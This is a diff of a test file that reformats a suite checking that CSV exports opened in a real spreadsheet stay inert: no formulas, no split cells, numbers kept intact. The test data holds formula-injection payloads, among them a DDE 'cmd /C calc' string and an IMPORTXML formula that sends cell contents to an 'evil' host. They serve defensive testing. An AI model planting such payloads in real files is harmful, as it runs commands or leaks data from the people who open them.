@@ -33,10 +33,15 @@ describe.runIf(toolAvailable('soffice'))('CSV in a real spreadsheet', () => {
     if (NUMERIC.has(column)) {
       expect(cell?.type, where).toBe('float');
       // Above 15 significant digits a spreadsheet keeps only 15 (README.txt says so); the JSON has them all.
-      return expect(Number(cell!.value), where).toBeCloseTo(Number(expected), -Math.max(0, expected.replace(/^-/, '').length - 15));
+      return expect(Number(cell!.value), where).toBeCloseTo(
+        Number(expected),
+        -Math.max(0, expected.replace(/^-/, '').length - 15),
+      );
     }
-    if (cell?.type === 'float' && PLAIN_NUMBER.test(expected)) return expect(Number(cell.value), where).toBe(Number(expected));
-    if (cell?.type === 'date' && /^\d{4}-\d\d-\d\dT/.test(expected)) return expect(expected.startsWith(cell.value!.slice(0, 19)), where).toBe(true);
+    if (cell?.type === 'float' && PLAIN_NUMBER.test(expected))
+      return expect(Number(cell.value), where).toBe(Number(expected));
+    if (cell?.type === 'date' && /^\d{4}-\d\d-\d\dT/.test(expected))
+      return expect(expected.startsWith(cell.value!.slice(0, 19)), where).toBe(true);
     expect(cell?.type, where).toBe('string');
     expect(cell!.text, where).toBe(asSpreadsheetText(expected));
   }
@@ -50,20 +55,35 @@ describe.runIf(toolAvailable('soffice'))('CSV in a real spreadsheet', () => {
    */
   const asSpreadsheetText = (text: string) => {
     const lines = text.replace(/\r\n?/g, '\n');
-    const held = (lines.includes('\n') ? lines.replaceAll('\t', '') : lines).replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, '');
+    const held = (lines.includes('\n') ? lines.replaceAll('\t', '') : lines).replace(
+      /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g,
+      '',
+    );
     // Calc's CSV import keeps the first 65,535 characters of a cell (Excel: 32,767); the rows after are untouched.
     return held.slice(0, 65_535);
   };
 
   it('no cell becomes a formula, no cell is split, numbers stay numbers, text and every Unicode plane arrive intact, the header has no BOM', async () => {
     const user = await insertUser(env.admin, { name: EVERY_PLANE });
-    const project = await insertProject(env.admin, user, { name: '=cmd|" /C calc"!A0', description: 'line one\r\nline two\r\n"quoted", comma' });
+    const project = await insertProject(env.admin, user, {
+      name: '=cmd|" /C calc"!A0',
+      description: 'line one\r\nline two\r\n"quoted", comma',
+    });
     const nested = `${'{"a":'.repeat(500)}[1, 18446744073709551615, "\\u0001x"]${'}'.repeat(500)}`;
-    await insertFeature(env.admin, project, { key: '@IMPORTXML(CONCAT("http://evil/?", A1))', title: `${'big cell '.repeat(1_165_000)}end`, metadata: nested });
+    await insertFeature(env.admin, project, {
+      key: '@IMPORTXML(CONCAT("http://evil/?", A1))',
+      title: `${'big cell '.repeat(1_165_000)}end`,
+      metadata: nested,
+    });
     for (const [i, payload] of SPREADSHEET_PAYLOADS.entries()) {
       await insertRelease(env.admin, project, { version: payload, notes: payload });
       // jsonb is written without the formula rule (its text never starts a formula): a JSON string holding a payload, and a negative number, must stay inert.
-      await insertRun(env.admin, project, { number: i + 1, branch: payload, durationMs: i % 2 ? '-5' : '9007199254740993', metadata: i % 3 === 2 ? '-12.5' : JSON.stringify(payload) });
+      await insertRun(env.admin, project, {
+        number: i + 1,
+        branch: payload,
+        durationMs: i % 2 ? '-5' : '9007199254740993',
+        metadata: i % 3 === 2 ? '-12.5' : JSON.stringify(payload),
+      });
     }
     const id = await insertRequest(env.admin, user);
     expect((await fulfillInProcess(env, { requestIds: [id] })).summary.ready).toBe(1);
@@ -81,7 +101,10 @@ describe.runIf(toolAvailable('soffice'))('CSV in a real spreadsheet', () => {
       const expected = parseCsv(bytes.toString('utf8'), { bom: true, relax_column_count: false }) as string[][];
       const sheet = sheets.get(name)!;
       const header = expected[0]!;
-      expect(sheet[0]!.map((c) => c.text), `${name}: header`).toEqual(header);
+      expect(
+        sheet[0]!.map((c) => c.text),
+        `${name}: header`,
+      ).toEqual(header);
       expect(sheet, `${name}: one spreadsheet row per CSV row`).toHaveLength(expected.length);
       for (const [r, row] of expected.entries()) {
         if (r === 0) continue;
@@ -100,7 +123,12 @@ describe.runIf(toolAvailable('soffice'))('CSV in a real spreadsheet', () => {
     expect(shown.get("'+44 20 7946 0958")?.type).toBe('string');
     expect(shown.get('x;=1+1')?.type).toBe('string'); // not split at the semicolon
     expect(shown.get('a\t=2+2')?.type).toBe('string'); // nor at the tab
-    expect(releases.slice(1).map((row) => row[versionColumn]!).find((c) => c.type === 'float' && c.value === '-12.5')).toBeDefined();
+    expect(
+      releases
+        .slice(1)
+        .map((row) => row[versionColumn]!)
+        .find((c) => c.type === 'float' && c.value === '-12.5'),
+    ).toBeDefined();
     const users = sheets.get('csv/users.csv')!;
     expect(users[1]![users[0]!.findIndex((c) => c.text === 'name')]!.text).toBe(asSpreadsheetText(EVERY_PLANE));
   });
